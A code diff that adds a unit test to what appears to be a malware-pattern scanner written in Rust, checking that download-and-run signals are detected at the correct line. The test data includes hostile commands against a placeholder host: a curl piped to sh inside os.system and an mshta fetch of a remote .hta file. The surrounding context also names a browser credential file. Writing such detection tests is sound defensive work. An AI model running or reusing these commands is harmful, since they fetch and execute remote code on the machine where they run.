@@ -719,6 +719,22 @@ mod tests {
     }
 
     #[test]
+    fn download_and_run_is_found_at_its_line_among_others() {
+        // Mixed case and CRLF line ends: the pre-filter must find what the lowered line
+        // search finds, at the same line.
+        let text = "import os\r\n# fetch later\r\nx = 1\r\nos.system('CURL -s http://x.example/i | SH')\r\n";
+        let signals = scan(text, Reach::Always);
+        let found = signals
+            .iter()
+            .find(|s| s.kind == SignalKind::DownloadRun)
+            .expect("download-run");
+        assert_eq!(found.line, 4);
+        // The fetch and the run on different lines are not one download-and-run.
+        assert!(!kinds("curl http://x.example/i\n| sh\n").contains(&SignalKind::DownloadRun));
+        assert!(kinds("x = 1\nmshta http://x.example/a.hta\n").contains(&SignalKind::DownloadRun));
+    }
+
+    #[test]
     fn thresholds_keep_single_mentions_out() {
         assert!(kinds("# works with wireshark captures").is_empty());
         assert!(kinds("x = 'Login Data'").is_empty());
